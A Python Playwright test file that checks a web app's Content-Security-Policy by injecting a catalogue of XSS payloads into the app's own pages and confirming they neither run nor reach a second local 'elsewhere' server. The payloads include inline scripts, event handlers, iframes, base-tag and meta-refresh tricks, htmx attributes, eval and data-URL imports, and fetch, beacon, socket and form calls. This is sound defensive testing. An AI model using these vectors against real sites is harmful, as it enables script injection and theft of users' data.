"""The Content-Security-Policy in Chromium, for a text that gets onto a page as HTML after all.

Nothing of ours does that, so the browser is given our real answer with the payload put into it,
under the headers that really came.
"""

from __future__ import annotations

import base64
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route

from tests.hardening.server import Running

pytestmark = pytest.mark.browser

OWN = "window.owned = true"


class Quiet(SimpleHTTPRequestHandler):
    """Serves files to every origin and logs nothing; notes what it was asked."""

    def end_headers(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()

    def log_message(self, *arguments: object) -> None:
        """Be quiet."""


class Elsewhere:
    """Another site, under somebody else's control."""

    def __init__(self, folder: Path) -> None:
        (folder / "x.js").write_text(OWN)
        (folder / "x.css").write_text("body { color: rgb(1, 2, 3) }")
        (folder / "index.html").write_text("another site")
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
        self.asked: list[str] = []
        self.server.asked = self.asked  # type: ignore[attr-defined]
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever).start()


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Elsewhere]:
    site = Elsewhere(tmp_path_factory.mktemp("elsewhere"))
    yield site
    site.server.shutdown()
    site.server.server_close()


PAYLOADS = {
    "inline script": f"<script>{OWN}</script>",
    "inline module": f"<script type=module>{OWN}</script>",
    "script of another site": "<script src='{elsewhere}/x.js'></script>",
    "script in the address": f"<script src='data:text/javascript,{OWN}'></script>",
    "script that is a page": "<script src='/search?q=x'></script>",
    "script that is a text": "<script src='/issues/wrong-key.txt'></script>",
    "script that is JSON": "<script src='/api/v1/issues'></script>",
    "event handler": f"<img src=/nowhere onerror='{OWN}'><svg onload='{OWN}'></svg>",
    "focus handler": f"<input autofocus onfocus='{OWN}'>",
    "frame": "<iframe srcdoc='<script>parent.owned = true</script>'></iframe>",
    "frame of another site": "<iframe src='{elsewhere}/'></iframe>",
    "script frame": "<iframe src='javascript:parent.owned = true'></iframe>",
    "object": "<object data='{elsewhere}/'></object><embed src='{elsewhere}/'>",
    "base": "<base href='{elsewhere}/'><script src='x.js'></script>",
    "refresh": f"<meta http-equiv=refresh content='0;url=javascript:{OWN}'>",
    "own policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    f"<script>{OWN}</script>",
    "htmx": "<b data-hx-get='/healthz' data-hx-trigger='load'"
    f" data-hx-on::after:request='{OWN}'>x</b>"
    f"<b data-hx-get='/healthz' data-hx-trigger='load[{OWN}]' data-hx-vals='js:{{a: {OWN}}}'>x</b>"
    f"<b hx-get='/healthz' hx-trigger='load' hx-on::load='{OWN}' hx-vals='js:{{a: {OWN}}}'>x</b>",
    "htmx of another site": "<b data-hx-get='{elsewhere}/x.js' data-hx-trigger='load'>x</b>",
    "picture of another site": "<img src='{elsewhere}/x.js'>",
    "style of another site": "<link rel=stylesheet href='{elsewhere}/x.css'>",
    "inline style": "<style>body { color: rgb(1, 2, 3) }</style>",
    "style attribute": "<b id=styled style='color: rgb(1, 2, 3)'>x</b>",
    "prefetch": "<link rel=preload as=script href='{elsewhere}/x.js'>",
}


CHANGE_THE_PAGE = ("base", "refresh", "own policy")
"""What changes the meaning of the rest of a page, so it needs a page of its own."""
TOGETHER = "".join(html for name, html in PAYLOADS.items() if name not in CHANGE_THE_PAGE)


@pytest.mark.parametrize(
    "payload",
    [TOGETHER, *map(PAYLOADS.__getitem__, CHANGE_THE_PAGE)],
    ids=["together", *CHANGE_THE_PAGE],
)
def test_html_that_got_in_runs_nothing_and_asks_nobody(
    page: Page, server: Running, elsewhere: Elsewhere, payload: str
) -> None:
    elsewhere.asked.clear()
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text))
    page.route(
        "**/search?q=payload", partial(reflect, payload.replace("{elsewhere}", elsewhere.url))
    )
    page.goto(f"http://127.0.0.1:{server.port}/search?q=payload", wait_until="networkidle")
    assert page.locator("#reflected").count() == 1
    assert page.evaluate("window.owned") is None
    assert page.evaluate("getComputedStyle(document.body).color") != "rgb(1, 2, 3)"
    if page.locator("#styled").count():
        assert page.evaluate("getComputedStyle(styled).color") != "rgb(1, 2, 3)"
    assert elsewhere.asked == []
    assert page.url.startswith(f"http://127.0.0.1:{server.port}/search")


def reflect(payload: str, route: Route) -> None:
    """Answer with our own page and its headers, and the payload in it."""
    response = route.fetch()
    assert "content-security-policy" in response.headers
    body = response.text().replace("</main>", f"<p id=reflected>{payload}</p></main>")
    route.fulfill(response=response, body=body)


def test_without_the_policy_the_payload_runs(page: Page, server: Running) -> None:
    """Or else the test above would prove nothing."""

    def without_policy(route: Route) -> None:
        response = route.fetch()
        headers = dict(response.headers)
        del headers["content-security-policy"]
        body = response.text().replace("</main>", f"{PAYLOADS['inline script']}</main>")
        route.fulfill(response=response, headers=headers, body=body)

    page.route("**/search?q=payload", without_policy)
    page.goto(f"http://127.0.0.1:{server.port}/search?q=payload")
    assert page.evaluate("window.owned") is True


ATTEMPTS = {
    "eval": "eval('window.owned = true')",
    "function": "new Function('window.owned = true')()",
    "timer": "setTimeout('window.owned = true', 0)",
    "link": "Object.assign(document.createElement('a'), {href: 'javascript:window.owned = true'})"
    ".click()",
    "element": "document.body.append(Object.assign(document.createElement('script'),"
    " {text: 'window.owned = true'}))",
    "markup": "document.body.insertAdjacentHTML('beforeend',"
    " '<img src=x onerror=\"owned = true\">')",
    "worker": "new Worker(URL.createObjectURL(new Blob(['1'], {type: 'text/javascript'})))"
    ".onmessage = 1",
    "import": "import('data:text/javascript,window.owned = true')",
    "fetch": "fetch('{elsewhere}/x.js').then(() => { window.owned = true })",
    "beacon": "navigator.sendBeacon('{elsewhere}/x.js') || 1",
    "socket": "new WebSocket('{elsewhere}/'.replace('http', 'ws'))",
    "form": "document.body.append(Object.assign(document.createElement('form'),"
    " {action: '{elsewhere}/', id: 'sent'})), sent.submit()",
}


def test_what_script_of_ours_could_be_tricked_into_is_refused(
    page: Page, server: Running, elsewhere: Elsewhere
) -> None:
    """Whatever a script does with a text by mistake, it is not run and sent nowhere."""
    elsewhere.asked.clear()
    page.goto(f"http://127.0.0.1:{server.port}/", wait_until="networkidle")
    for name, attempt in ATTEMPTS.items():
        script = attempt.replace("{elsewhere}", elsewhere.url)
        # Later, since the browser's own tools may do what pages may not.
        page.evaluate("setTimeout(() => { try { " + script + " } catch (error) {} }, 0)")
        page.wait_for_timeout(300)
        assert page.evaluate("window.owned") is None, name
        assert elsewhere.asked == [], name
        assert page.url == f"http://127.0.0.1:{server.port}/", name


def test_no_other_site_shows_us_in_a_frame(
    page: Page, server: Running, elsewhere: Elsewhere
) -> None:
    page.goto(elsewhere.url)
    ours = f"http://127.0.0.1:{server.port}/"
    page.evaluate(
        "url => document.body.append(Object.assign(document.createElement('iframe'), {src: url}))",
        ours,
    )
    page.wait_for_timeout(1000)
    assert not [frame for frame in page.frames if frame.url == ours and frame.locator("h1").count()]


def test_what_visitors_wrote_runs_nothing_where_writers_read_it(
    page: Page, server: Running
) -> None:
    hostile = "<script>window.owned=true</script><img src=x onerror=owned=true> qzvk wxyj"
    # Not from where all other tests come: who says too much is not listened to any more.
    body = f"text={hostile.replace('<', '%3C')}"
    server.post("/diagnose", body, X_Forwarded_For="198.51.100.77")
    token = "x:as-secret-as-a-marble"
    server.until(
        lambda: "qzvk" in server.get("/insights", Authorization=f"Basic {encoded(token)}").text
    )
    page.set_extra_http_headers({"Authorization": f"Basic {encoded(token)}"})
    page.goto(f"http://127.0.0.1:{server.port}/insights", wait_until="networkidle")
    assert page.locator("pre", has_text="<script>window.owned=true").count() == 1
    assert page.evaluate("window.owned") is None


def encoded(credentials: str) -> str:
    """Return credentials as a browser sends them."""
    return base64.b64encode(credentials.encode()).decode()
